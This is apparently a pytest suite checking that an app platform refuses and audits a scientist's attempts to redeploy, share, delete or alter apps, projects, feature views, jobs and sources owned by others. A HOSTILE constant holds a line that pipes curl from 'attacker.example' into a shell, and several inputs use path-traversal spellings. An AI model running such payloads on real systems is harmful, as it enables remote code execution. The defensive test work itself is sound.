"""Changing what someone else owns changes nothing.

eve, a scientist, attacks what ada (another scientist) and root (an admin) own: a hosted app,
a project (members, environment), feature views, a running job, a source. Each attack comes in
several spellings (names in other cases, with slashes and spaces, through the API, the portal's
forms and the service itself). Every one must be refused, and leave no trace: the files keep
their bytes, the rows their values, no staged file is left behind, and the audit log shows the
refusal where the service records refusals.
"""

from __future__ import annotations

import hashlib
import sqlite3
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from atelier.config import Workspace, init_workspace
from atelier.errors import AtelierError, PermissionDenied
from atelier.server.app import create_app
from atelier.services.auth import Principal
from atelier.services.features.loader import from_dict
from atelier.services.workbench import Workbench

PASSWORD = "correct horse battery"
APP = "report"
ORIGINAL = "import time\nprint('ada was here')\ntime.sleep(1)\n"
HOSTILE = "import os\nos.system('curl attacker.example | sh')\n"
VIEWS = {
    "entities": [{"name": "customer", "keys": ["cid"]}],
    "views": [
        {
            "name": "spend",
            "entity": "customer",
            "source": "s.tx",
            "timestamp": "ts",
            "features": ["amount"],
        }
    ],
}


@dataclass
class Scene:
    client: TestClient
    wb: Workbench
    tokens: dict[str, str]
    source_db: str

    def who(self, user: str) -> Principal:
        found = self.wb.users.get(user)
        return Principal(found.id, found.name, found.role, "token")

    def api(self, user: str, method: str, path: str, **kwargs: Any) -> Any:
        headers = {"Authorization": f"Bearer {self.tokens[user]}"}
        return self.client.request(method, path, headers=headers, **kwargs)

    def refusals(self, action: str, actor: str = "eve") -> int:
        return sum(
            1
            for e in self.wb.audit.entries(limit=10_000, action=action)
            if e.actor == actor and not e.success
        )


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    folder = tmp_path_factory.mktemp("ownership")
    root, _ = init_workspace(folder / "ws")
    wb = Workbench(Workspace.open(root, environ={}))
    tokens = {}
    for name, role in (("ada", "scientist"), ("eve", "scientist"), ("vic", "viewer")):
        wb.users.create(name, role, PASSWORD)
        tokens[name] = wb.tokens.create(name, "own", 1)[1]
    wb.users.create("root", "admin", PASSWORD)
    tokens["root"] = wb.tokens.create("root", "own", 1)[1]
    wb.warehouse.run_write(
        lambda c: c.execute(
            "CREATE SCHEMA s; CREATE TABLE s.tx AS SELECT 1 AS cid, "
            "TIMESTAMP '2024-01-01' AS ts, 5.0::DOUBLE AS amount"
        ),
        author="ada",
    )
    source_db = str(folder / "legacy.db")
    with sqlite3.connect(source_db) as db:
        db.execute("CREATE TABLE orders (id INTEGER)")
    with TestClient(create_app(wb), base_url="http://127.0.0.1") as client:
        scene = Scene(client, wb, tokens, source_db)
        ada = scene.who("ada")
        wb.projects.create("alpha", ada, "ada's project")
        wb.apps.deploy(APP, ORIGINAL, ada, kind="dash")
        yield scene
    wb.close()


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- apps ----------------------------------------------------------------------------------


def app_state(scene: Scene) -> tuple[Any, ...]:
    app = scene.wb.apps.registry.get(APP)
    script = Path(app.script or "")
    leftovers = sorted(p.name for p in script.parent.iterdir() if p.name != "app.py")
    return (
        digest(script),
        app.owner,
        app.status,
        app.shared_with,
        app.shared_with_all,
        app.project,
        app.updated_at,
        leftovers,
    )


DEPLOYS = [
    ({"name": APP, "script": HOSTILE}, 403),
    ({"name": APP, "script": HOSTILE, "kind": "streamlit", "title": "mine now"}, 403),
    ({"name": APP, "script": HOSTILE, "project": "alpha"}, 403),
    ({"name": APP.upper(), "script": HOSTILE}, 422),
    ({"name": f"{APP}/", "script": HOSTILE}, 422),
    ({"name": f" {APP}", "script": HOSTILE}, 422),
    ({"name": f"{APP}/../{APP}", "script": HOSTILE}, 422),
    ({"name": f"../apps/{APP}", "script": HOSTILE}, 422),
]


@pytest.mark.parametrize(("body", "status"), DEPLOYS)
def test_redeploying_someone_elses_app_changes_nothing(
    scene: Scene, body: dict[str, Any], status: int
) -> None:
    before, refused = app_state(scene), scene.refusals("app.deploy")
    response = scene.api("eve", "POST", "/api/v1/apps/deploy", json=body)
    assert response.status_code == status, response.text
    assert app_state(scene) == before
    assert scene.refusals("app.deploy") == refused + (status == 403)


def test_redeploying_through_the_service_changes_nothing(scene: Scene) -> None:
    before = app_state(scene)
    for kind in ("dash", "streamlit", None):
        with pytest.raises(PermissionDenied, match="only the owner"):
            scene.wb.apps.deploy(APP, HOSTILE, scene.who("eve"), kind=kind, client="sdk")
    with pytest.raises(PermissionDenied):
        scene.wb.apps.deploy(APP, HOSTILE, scene.who("vic"))
    assert app_state(scene) == before
    denied = [
        e
        for e in scene.wb.audit.entries(limit=100, action="app.deploy")
        if e.actor == "eve" and e.client == "sdk"
    ]
    assert len(denied) == 3 and not any(e.success for e in denied)


def test_a_broken_redeploy_by_the_owner_keeps_the_old_file(scene: Scene) -> None:
    before = app_state(scene)
    with pytest.raises(AtelierError, match="line 1"):
        scene.wb.apps.deploy(APP, "def (:\n", scene.who("ada"))
    with pytest.raises(AtelierError, match="not a member"):
        scene.wb.apps.deploy("other", HOSTILE, scene.who("eve"), project="alpha")
    assert app_state(scene) == before
    with pytest.raises(PermissionDenied):
        scene.wb.apps.deploy("fresh", ORIGINAL, scene.who("vic"))
    assert not (scene.wb.apps.folder / "other").exists()
    assert not (scene.wb.apps.folder / "fresh").exists()
    with pytest.raises(AtelierError):
        scene.wb.apps.registry.get("other")


MANAGE = [
    ("POST", f"/api/v1/apps/{APP}/share", {"json": {"users": ["eve"], "everyone": True}}, 403),
    ("POST", f"/api/v1/apps/{APP}/pause", {}, 403),
    ("POST", f"/api/v1/apps/{APP}/resume", {}, 403),
    ("DELETE", f"/api/v1/apps/{APP}", {}, 403),
    ("DELETE", f"/api/v1/apps/{APP.upper()}", {}, 404),
    ("DELETE", f"/api/v1/apps/{APP}/", {}, 404),
    ("DELETE", f"/api/v1/apps/{APP}%2F", {}, 404),
    ("POST", f"/api/v1/apps/{APP}%20/pause", {}, 404),
    ("POST", f"/apps/{APP}/-/manage", {"data": {"action": "delete"}}, 403),
    ("POST", f"/apps/{APP}/-/manage", {"data": {"action": "share", "everyone": "on"}}, 403),
    ("POST", f"/apps/{APP}/-/manage", {"data": {"action": "pause"}}, 403),
    ("GET", f"/api/v1/apps/{APP}/logs", {}, 403),
    ("GET", f"/apps/{APP}/-/logs", {}, 403),
]


@pytest.mark.parametrize(("method", "path", "kwargs", "status"), MANAGE)
def test_managing_someone_elses_app_changes_nothing(
    scene: Scene, method: str, path: str, kwargs: dict[str, Any], status: int
) -> None:
    before = app_state(scene)
    response = scene.api("eve", method, path, **kwargs)
    if status == 403:
        assert response.status_code == 403, response.text
    else:  # another spelling: no such app, no such route, or redirected and refused
        assert response.status_code in (403, 404, 405), response.text
    assert app_state(scene) == before


def test_managing_through_the_service_changes_nothing_and_is_audited(scene: Scene) -> None:
    before = app_state(scene)
    eve = scene.who("eve")
    attempts = {
        "app.share": lambda: scene.wb.apps.share(APP, eve, everyone=True, client="cli"),
        "app.pause": lambda: scene.wb.apps.pause(APP, eve, client="cli"),
        "app.resume": lambda: scene.wb.apps.resume(APP, eve, client="cli"),
        "app.delete": lambda: scene.wb.apps.delete(APP, eve, client="cli"),
    }
    for action, attempt in attempts.items():
        refused = scene.refusals(action)
        with pytest.raises(PermissionDenied):
            attempt()
        assert scene.refusals(action) == refused + 1, action
    assert app_state(scene) == before


def test_every_entry_point_audits_the_owners_changes_alike(scene: Scene) -> None:
    ada = scene.who("ada")
    scene.wb.apps.deploy("audited", ORIGINAL, ada, kind="dash", client="cli")
    assert scene.api("ada", "POST", "/api/v1/apps/audited/pause").status_code == 200
    form = scene.api("ada", "POST", "/apps/audited/-/manage", data={"action": "resume"})
    assert form.status_code in (200, 303)
    scene.wb.apps.delete("audited", ada, client="sdk")
    found = [
        (e.action, e.client is not None)
        for e in reversed(scene.wb.audit.entries(limit=50))
        if e.target == "audited" and e.success
    ]
    assert [a for a, _ in found] == ["app.deploy", "app.pause", "app.resume", "app.delete"]
    assert all(has_client for _, has_client in found)


# -- projects ------------------------------------------------------------------------------


def project_state(scene: Scene) -> tuple[Any, ...]:
    project = scene.wb.projects.get("alpha")
    files = tuple(digest(project.path / f) for f in ("pyproject.toml", "uv.lock"))
    return files, tuple((m.name, m.role) for m in project.members)


PROJECT_ATTACKS = [
    ("POST", "/api/v1/projects/alpha/members", {"json": {"user": "eve", "role": "owner"}}, 403),
    ("POST", "/api/v1/projects/alpha/members", {"json": {"user": "vic"}}, 403),
    ("DELETE", "/api/v1/projects/alpha/members/ada", {}, 403),
    ("POST", "/api/v1/projects/alpha/env", {"json": {"packages": ["six"]}}, 403),
    ("DELETE", "/api/v1/projects/alpha/env", {"json": {"packages": ["ipykernel"]}}, 403),
    ("DELETE", "/api/v1/projects/alpha/env", {"json": {"packages": ["not-there"]}}, 403),
    ("POST", "/api/v1/projects/ALPHA/env", {"json": {"packages": ["six"]}}, 404),
    ("POST", "/api/v1/projects/alpha%2F/env", {"json": {"packages": ["six"]}}, 404),
    ("POST", "/projects/alpha/env/add", {"data": {"packages": "six"}}, 403),
    ("POST", "/projects/alpha/members", {"data": {"user": "eve", "role": "owner"}}, 403),
    ("POST", "/projects/alpha/members/ada/remove", {}, 403),
]


@pytest.mark.parametrize(("method", "path", "kwargs", "status"), PROJECT_ATTACKS)
def test_changing_someone_elses_project_changes_nothing(
    scene: Scene, method: str, path: str, kwargs: dict[str, Any], status: int
) -> None:
    before = project_state(scene)
    response = scene.api("eve", method, path, **kwargs)
    assert response.status_code == status, response.text
    assert project_state(scene) == before


def test_project_refusals_through_the_service_are_audited(scene: Scene) -> None:
    before = project_state(scene)
    eve = scene.who("eve")
    for action, attempt in {
        "project.env.add": lambda: scene.wb.projects.env.add("alpha", ["six"], eve),
        "project.env.remove": lambda: scene.wb.projects.env.remove("alpha", ["six"], eve),
        "project.member.add": lambda: scene.wb.projects.add_member("alpha", "eve", eve),
        "project.member.remove": lambda: scene.wb.projects.remove_member("alpha", "ada", eve),
    }.items():
        refused = scene.refusals(action)
        with pytest.raises(PermissionDenied):
            attempt()
        assert scene.refusals(action) == refused + 1, action
    with pytest.raises(PermissionDenied):
        scene.wb.jobs.submit([sys.executable, "-c", "pass"], principal=eve, project="alpha")
    assert scene.wb.jobs.list(user="eve") == []
    assert project_state(scene) == before


# -- feature views -------------------------------------------------------------------------


def feature_state(scene: Scene) -> tuple[Any, ...]:
    views = tuple((v.name, v.project, v.version) for v in scene.wb.features.views())
    return views, tuple(sorted(e["name"] for e in scene.wb.features.entities()))


@pytest.fixture(scope="module")
def features(scene: Scene) -> None:
    ada = scene.who("ada")
    scene.wb.features.apply(from_dict(VIEWS), project="alpha", principal=ada)
    other = {
        "entities": [{"name": "shopper", "keys": ["cid"]}],
        "views": [{**VIEWS["views"][0], "name": "basket", "entity": "shopper"}],
    }
    scene.wb.features.apply(from_dict(other), project="shop", principal=ada)


FEATURE_ATTACKS = [
    {"definitions": {}, "project": "alpha", "dry_run": False},
    {"definitions": {}, "project": "shop", "dry_run": False},
    {"definitions": {}, "project": "shop", "dry_run": True},
    {
        "definitions": {
            **VIEWS,
            "views": [
                {**VIEWS["views"][0], "features": ["amount", {"name": "x", "sql": "amount * 2"}]}
            ],
        },
        "project": "alpha",
        "dry_run": False,
    },
    {"definitions": {**VIEWS, "project": "alpha"}, "dry_run": False},
]


@pytest.mark.parametrize("body", FEATURE_ATTACKS)
def test_applying_over_someone_elses_features_changes_nothing(
    scene: Scene, features: None, body: dict[str, Any]
) -> None:
    before = feature_state(scene)
    response = scene.api("eve", "POST", "/api/v1/features/apply", json=body)
    assert response.status_code == 403, response.text
    assert feature_state(scene) == before


def test_feature_names_in_other_spellings_are_refused(scene: Scene, features: None) -> None:
    before = feature_state(scene)
    changed = {**VIEWS["views"][0], "features": ["amount", {"name": "x", "sql": "amount * 2"}]}
    for project in ("Alpha", "ALPHA", "alpha/", " alpha", "shop/../alpha", "alpha\n"):
        # Another project's spelling is another project: alpha's views stay alpha's.
        body = {"definitions": {**VIEWS, "views": [changed]}, "project": project, "dry_run": False}
        response = scene.api("eve", "POST", "/api/v1/features/apply", json=body)
        assert response.status_code in (400, 403, 409, 422), (project, response.text)
    with pytest.raises(PermissionDenied):
        scene.wb.features.apply(from_dict({}), project="shop", principal=scene.who("eve"))
    assert feature_state(scene) == before
    # The owner, a member and an admin may.
    plan = scene.wb.features.apply(
        from_dict(VIEWS), project="alpha", principal=scene.who("root"), dry_run=True
    )
    assert not plan.blocked


# -- jobs ----------------------------------------------------------------------------------


def test_cancelling_someone_elses_job_changes_nothing(scene: Scene) -> None:
    job = scene.wb.jobs.submit(
        [sys.executable, "-c", "import time; time.sleep(60)"], principal=scene.who("ada")
    )
    try:
        for path in (f"/api/v1/jobs/{job.id}/cancel", f"/jobs/{job.id}/cancel"):
            response = scene.api("eve", "POST", path)
            assert response.status_code == 403, (path, response.text)
        for bad in (f"/api/v1/jobs/{job.id}%2F/cancel", f"/api/v1/jobs/0{job.id}x/cancel"):
            assert scene.api("eve", "POST", bad).status_code in (404, 422)
        with pytest.raises(PermissionDenied):
            scene.wb.jobs.cancel(job.id, principal=scene.who("eve"))
        found = scene.wb.jobs.get(job.id)
        assert found.state in ("queued", "running") and not found.final
        assert scene.refusals("job.cancel") >= 1
    finally:
        scene.wb.jobs.cancel(job.id, principal=scene.who("ada"), wait=30)


# -- sources -------------------------------------------------------------------------------


def test_a_scientist_cannot_attach_or_remove_sources(scene: Scene) -> None:
    body = {"name": "legacy", "type": "sqlite", "options": {"path": scene.source_db}}
    assert scene.api("root", "POST", "/api/v1/sources", json=body).status_code == 201
    before = [s.as_dict() for s in scene.wb.sources.list()]
    attacks = [
        ("POST", "/api/v1/sources", {"json": {**body, "name": "mine"}}),
        ("POST", "/api/v1/sources/", {"json": {**body, "name": "mine"}}),
        ("DELETE", "/api/v1/sources/legacy", {}),
        ("DELETE", "/api/v1/sources/LEGACY", {}),
        ("POST", "/data/sources", {"data": {"name": "mine", "type": "sqlite"}}),
        ("POST", "/data/sources/legacy/remove", {}),
    ]
    for method, path, kwargs in attacks:
        for user in ("eve", "vic"):
            response = scene.api(user, method, path, **kwargs)
            assert response.status_code in (403, 405), (user, method, path, response.status_code)
    assert [s.as_dict() for s in scene.wb.sources.list()] == before
